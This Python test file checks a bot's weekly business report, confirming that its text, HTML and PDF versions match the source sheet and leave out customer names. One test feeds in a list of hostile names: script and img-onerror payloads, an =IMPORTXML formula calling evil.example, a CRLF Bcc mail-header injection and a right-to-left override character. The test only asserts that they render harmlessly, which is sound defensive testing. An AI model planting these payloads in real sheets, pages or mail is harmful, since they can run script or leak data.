"""What the weekly report says, and that tab, mail and PDF say the same words and numbers."""

import re
import tomllib
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from zoneinfo import ZoneInfo

import pypdfium2 as pdfium
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from report_stand import (
    DAY,
    NOW,
    WEEK,
    a_dispute,
    a_report,
    a_source,
    an_act,
    late_tabs,
    lines_of,
    numbers,
    quiet_tabs,
)
from sheets_bot.documents.charts_png import chart_png
from sheets_bot.documents.letters import plain
from sheets_bot.documents.report_pdf import report_pdf
from sheets_bot.domain.report.as_html import as_html
from sheets_bot.domain.report.as_text import as_text
from sheets_bot.domain.report.compose import compose, has_numbers
from sheets_bot.domain.report.report import (
    CHANGED,
    DECIDE,
    DONE,
    DROVE,
    MINUTE,
    SECTIONS,
    UNMEASURED,
    Chart,
    Line,
    Report,
    Section,
    Sentence,
)
from sheets_bot.domain.report.report_rows import report_in, report_rows
from sheets_bot.sheets.cells import clean_text, writer
from sheets_bot.sheets.schema import TabSchema

SCHEMA = Path(__file__).parents[2] / "sheet_schemas" / "weekly_report.toml"
PERCENT = re.compile(r"\d %")


class Words(HTMLParser):
    """What a reader of the HTML sees, and what stands instead of pictures."""

    def __init__(self) -> None:
        super().__init__()
        self.text, self.pictures, self.tags = "", [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "img":
            self.pictures.append(dict(attrs))

    def handle_data(self, data):
        self.text += data


def squeezed(text: str) -> str:
    """Without blanks: programs break lines where they like."""
    return "".join(text.split())


def seen_in_html(report: Report) -> Words:
    words = Words()
    words.feed(as_html(report, lambda place: f"cid:{place}"))
    return words


def seen_in_pdf(report: Report) -> str:
    document = pdfium.PdfDocument(report_pdf(report))
    try:
        return squeezed("".join(page.get_textpage().get_text_bounded() for page in document))
    finally:
        document.close()


def through_the_tab(report: Report) -> Report | None:
    """As the sheet gives it back."""
    schema = TabSchema.model_validate(tomllib.loads(SCHEMA.read_text()))
    rows = {}
    for row in report_rows(report):
        assert row.values.keys() == {column.name for column in schema.column if column.owner == "bot"}
        for name, value in row.values.items():
            writer(schema.by_name[name].type, ZoneInfo("UTC"))(value)
        rows[row.key] = {name: clean_text(v) if isinstance(v, str) else v for name, v in row.values.items()}
    return report_in(rows, report.week, workbook=report.workbook)


def every_word(report: Report) -> list[str]:
    told = [one.text for section in report.sections for one in section.sentences]
    titles = [section.title for section in report.sections]
    return [report.title, *titles, *told, *(f"{chart.title}. {chart.says}" for chart in report.charts)]


# The same in all three


@pytest.mark.parametrize("tabs", [quiet_tabs(), late_tabs(), {}], ids=["quiet", "a change", "nothing known"])
def test_tab_text_html_and_pdf_say_the_same(tabs):
    composed = a_report(tabs)

    report = through_the_tab(composed)

    assert report == composed
    text, html, pdf = squeezed(as_text(report)), squeezed(seen_in_html(report).text), seen_in_pdf(report)
    for said in every_word(report):
        assert squeezed(said) in pdf
        assert squeezed(said) in html
        assert squeezed(said).casefold() in text.casefold()


def test_the_three_have_no_number_that_the_tab_has_not():
    report = a_report()
    known = set(re.findall(r"\d+", " ".join(every_word(report))))
    rests = {
        n
        for section in report.sections
        for one in section.sentences
        for r in one.rests_on
        for n in re.findall(r"\d+", r)
    }
    count = sum(len(section.sentences) for section in report.sections)

    for shown in (as_text(report), seen_in_html(report).text):
        assert set(re.findall(r"\d+", shown)) <= known | rests | {str(n) for n in range(1, count + 1)}


def test_equal_tabs_make_equal_files():
    first, second = a_report(), a_report()

    assert report_pdf(first) == report_pdf(second)
    assert [chart_png(chart) for chart in first.charts] == [chart_png(chart) for chart in second.charts]


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=IMPORTXML("http://evil.example")',
    "Líeferant ©  \u202egnol\u202c & Söhne",
    "a\r\nBcc: x@evil.example",
    "☃" * 400,
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_text_everywhere(name):
    """It may be a supplier's, a brand's, a reason: nobody outside can put a tag or a link into the report."""
    tabs = late_tabs()
    for row in tabs["Parcels"].values():
        row["supplier"] = row["supplier"].replace("Supplier East", name)
    tabs["Disputes"] = {
        "PP-D-9": a_dispute(brand=name, reason=name, advice="Ask the owner", owner_decision="")
    }

    report = through_the_tab(a_report(tabs))

    words = seen_in_html(report)
    assert "script" not in words.tags
    assert {picture["src"] for picture in words.pictures} == {f"cid:{n}" for n in range(len(report.charts))}
    assert "href" not in as_html(report, str)
    assert report_pdf(report).startswith(b"%PDF")
    assert all(chart_png(chart) for chart in report.charts)
    assert "\r" not in as_text(report)
    assert "\u202e" not in as_text(report) + as_html(report, str)


@given(st.text(max_size=80), st.text(max_size=40))
@settings(max_examples=30, deadline=None)
def test_any_text_can_be_shown(text, name):
    chart = Chart(name, text, (WEEK, WEEK + 7 * DAY), (Line(name, (Decimal(1), None)),))
    report = Report(WEEK, "shared", (Section(name or "x", (Sentence(text, (name,)),)),), (chart,))

    assert report_pdf(report)
    assert chart_png(chart)
    assert as_text(report)
    words = seen_in_html(report)
    assert set(words.tags) <= {
        "html",
        "head",
        "meta",
        "title",
        "body",
        "table",
        "tr",
        "td",
        "h1",
        "h2",
        "div",
        "ol",
        "ul",
        "li",
        "img",
        "p",
    }


def test_a_picture_whose_numbers_somebody_changed_is_left_out():
    report = a_report()
    rows = {row.key: dict(row.values) for row in report_rows(report)}
    pictures = [row for row in rows.values() if row["picture"]]
    for row, spoilt in zip(pictures, ("no json", "[]", '{"weeks": []}', '{"title": 1}'), strict=False):
        row["picture"] = spoilt

    found = report_in(rows, WEEK, workbook="shared")

    assert found.sections == report.sections
    assert len(found.charts) == len(report.charts) - min(len(pictures), 4)


# What it says


def test_a_planted_change_is_named_first_with_supplier_and_numbers():
    report = a_report()

    minute = lines_of(report, MINUTE)
    assert "All brands, opened per 100 payments: higher than usual" in minute[0]
    assert minute[1].startswith(
        "Supplier East, parcels that came late: higher than usual, last week 60 % (18 of 30)"
    )
    assert 3 <= len(minute) <= 5
    assert any(line.startswith("Supplier East: of its parcels") for line in lines_of(report, DROVE))


def test_a_quiet_week_names_nothing_and_says_so_in_one_sentence():
    report = a_report(quiet_tabs())

    assert lines_of(report, MINUTE)[0] == "Nothing changed by more than chance does."
    assert lines_of(report, CHANGED)[0] == "All 4 numbers that were judged are within the usual range."
    assert "higher than usual" not in as_text(report)


def test_a_count_that_stands_there_as_a_rate_is_judged_once():
    tabs = quiet_tabs()
    tabs["Metrics data"] |= numbers("opened", "All brands", [5] * 13 + [40])

    assert "Nothing changed" in lines_of(a_report(tabs), MINUTE)[0]


def test_of_one_brand_the_brand_says_nothing_twice_and_of_two_the_driver_is_named():
    tabs = late_tabs()
    tabs["Metrics data"] |= numbers(
        "opened_per_100_payments", "Aurora", [3] * 13 + [21], of=150, unit="per 100"
    )
    alone = a_report(tabs)
    tabs["Metrics data"] |= numbers(
        "opened_per_100_payments", "Velvet", [2] * 13 + [3], of=150, unit="per 100"
    )
    both = a_report(tabs)

    assert not any("Aurora, opened" in line for line in lines_of(alone, CHANGED))
    assert not any("Aurora, opened" in line for line in lines_of(both, CHANGED))
    assert any(
        "most of it comes from Aurora (21 where 3.0 is usual)" in line for line in lines_of(both, DROVE)
    )


def test_no_percentage_is_said_of_fewer_than_ten():
    report = a_report()

    for said in every_word(report):
        for percent in re.finditer(r"\d+(?:\.\d+)? % \(\d+ of (\d+)\)", said):
            assert int(percent[1]) >= 10


def test_what_the_owner_must_decide_is_there_until_he_has():
    tabs = late_tabs()
    asked = lines_of(a_report(tabs), DECIDE)
    tabs["Disputes"]["PP-D-2"]["owner_decision"] = "refund"
    tabs["Disputes"]["PP-D-3"]["flag"] = "CLOSED"
    answered = lines_of(a_report(tabs), DECIDE)

    assert asked[0].startswith("PP-D-3 (Aurora, 60.00 USD, no date): No rule fits, a person must decide.")
    assert asked[1].startswith("PP-D-2 (Aurora, 340.00 USD, due Wed 18 Nov): The playbook asks you.")
    assert answered == ["Nothing waits for you."]


def test_large_sums_wait_for_the_owner_from_the_sum_in_settings_on():
    tabs = quiet_tabs()
    tabs["Disputes"] = {
        "PP-D-4": a_dispute(advice="Refund at the platform", amount=Decimal(200)),
        "PP-D-5": a_dispute(advice="Refund at the platform", amount=Decimal("199.99")),
    }
    tabs["Refunds"] = {
        "R1": {"refunded": NOW - 2 * DAY, "amount": Decimal(250), "currency": "EUR"},
        "R2": {"refunded": NOW - 2 * DAY, "amount": Decimal(300), "currency": "USD"},
        "R3": {"refunded": NOW - 20 * DAY, "amount": Decimal(900), "currency": "USD"},
        "R4": {"refunded": NOW - 2 * DAY, "amount": "much", "currency": "USD"},
    }

    asked = lines_of(a_report(tabs), DECIDE)

    assert [line.partition(" ")[0] for line in asked] == ["PP-D-4", "2"]
    assert asked[1].startswith("2 refunds were of 200 or more, 250.00 EUR + 300.00 USD together")


def test_what_was_done_is_counted_by_kind_and_what_did_not_happen_is_no_deed():
    tabs = quiet_tabs()
    tabs["Acts"] = {
        "a1": an_act(),
        "a2": an_act(action="Provide evidence", tab="Disputes", state="confirmed"),
        "a3": an_act(state="refused"),
        "a4": an_act(state="in doubt"),
        "a5": an_act(ended_at=NOW - 20 * DAY),
        "a6": an_act(state="taken back"),
    }

    done = lines_of(a_report(tabs), DONE)

    assert done[0] == "2 acts went out through the bot: Provide evidence 1, Send mail 1."
    assert "about 46 minutes" in done[1]  # 40 for a dispute, 6 for a mail
    assert "1 act asked for and did not go out." in done
    assert any(line.startswith("1 act in doubt") for line in done)


def test_a_source_that_failed_and_a_number_without_a_value_are_told_as_not_measured():
    tabs = late_tabs()
    key = f"won|{WEEK}|All brands"
    tabs["Metrics data"][key] = {
        "brand": "All brands",
        "week_starts_on": WEEK,
        "unit": "cases",
        "note": "The sales of Aurora were fetched only in part.",
        "complete": "whole",
    }

    told = lines_of(a_report(tabs), UNMEASURED)

    assert told[0].startswith("Trustpilot: Aurora: last went well Fri 13 Nov")
    assert "won: The sales of Aurora were fetched only in part." in told
    assert "(tab Causes)" in told[-1]


def test_a_week_that_was_measured_half_way_counts_as_not_measured():
    tabs = quiet_tabs()
    for row in tabs["Metrics data"].values():
        if row["week_starts_on"] == WEEK:
            row |= {"complete": "so far", "shown": "3"}

    report = a_report(tabs)

    assert not has_numbers(a_source(tabs))
    assert "None of the weekly numbers" in lines_of(report, UNMEASURED)[0]
    assert not any("opened" in line for line in lines_of(report, MINUTE))


def test_without_any_tab_the_report_says_that_it_knows_nothing():
    report = a_report({})

    assert [section.title for section in report.sections] == [title for title in SECTIONS if title != CHANGED]
    assert not has_numbers(a_source({}))
    assert "None of the weekly numbers" in " ".join(lines_of(report, UNMEASURED))
    assert report.charts == ()


def test_the_lists_of_causes_suppliers_themes_and_agreement_are_told_where_they_exist():
    tabs = quiet_tabs() | {
        "Causes": {
            "EUR 00": {"cause": "all causes", "incidents": 90, "note": "all"},
            "EUR 01": {
                "cause": "late_delivery", "incidents": 31, "cost": Decimal("1240.5"), "currency": "EUR",
                "trend": "more than chance", "last_weeks": 19, "weeks_before": 12, "lever": "Owner: delivery promise",
            },
        },
        "Suppliers": {
            "All suppliers | all": {"supplier": "All suppliers", "late_verdict": "worse than chance"},
            "East | all": {"supplier": "East", "country": "all", "late": "31 % (62 of 200)", "late_verdict": "worse than chance"},
        },
        "Themes": {"01": {"theme": "parcel, weeks", "trend": "more than chance", "last_weeks": 9, "weeks_before": 4}},
        "Agreement": {"INR S4": {"line": "INR S4", "agreed": "3 of 11", "verdict": "mostly overruled", "instead": "Refund 8"}},
    }  # fmt: skip

    told = lines_of(a_report(tabs), DROVE)

    assert (
        "Dearest cause of the last twelve weeks: late delivery, 1,240.50 EUR in 31 cases. Who can change it: Owner: delivery promise."
        in told
    )
    assert "Late delivery grows: 19 in the last four weeks, 12 in the eight before." in told
    assert "East, worse than chance over twelve weeks: late 31 % (62 of 200)." in told
    assert any("parcel, weeks" in line for line in told)
    assert any(line.startswith("The advice of INR S4 was followed in 3 of 11") for line in told)


def test_every_reference_names_a_row_that_stands_in_its_tab():
    tabs = late_tabs()
    for section in a_report(tabs).sections:
        for one in section.sentences:
            for reference in one.rests_on:
                tab, _, key = reference.partition(": ")
                assert tab in tabs
                assert not key or key in tabs[tab] or "the week of" in key


def test_nobody_is_named_who_is_not_a_brand_or_supplier():
    tabs = late_tabs()
    for key, row in tabs["Disputes"].items():
        row |= {"customer": "Jane D.", "draft": "Dear Jane, jane@mail.example", "notes": f"call 0151 {key}"}
    tabs["Acts"] = {"a1": an_act(text="Dear Jane, jane@mail.example", subject="Jane's order")}

    report = a_report(tabs)

    for shown in (as_text(report), as_html(report, str), seen_in_pdf(report), str(report_rows(report))):
        assert "Jane" not in shown
        assert "mail.example" not in shown


def test_local_days_decide_which_week_an_act_belongs_to():
    late_in_auckland = NOW.replace(hour=12) - timedelta(days=1)  # Sunday at noon in UTC is Monday there
    tabs = quiet_tabs()
    tabs["Acts"] = {"a1": an_act(ended_at=late_in_auckland)}
    rules = replace(a_source().rules, zone=ZoneInfo("Pacific/Auckland"))

    here, there = compose(a_source(tabs)), compose(a_source(tabs, rules=rules))

    assert lines_of(here, DONE)[0].startswith("1 act went out")
    assert lines_of(there, DONE)[0].startswith("Nothing went out")


def test_a_title_names_the_spreadsheet_where_there_are_several():
    assert a_report().title == "Weekly report, Mon 9 Nov to Sun 15 Nov 2026"
    assert compose(a_source(workbook="velvet")).title.startswith("Weekly report of velvet, ")
    assert plain(a_report().title) == a_report().title
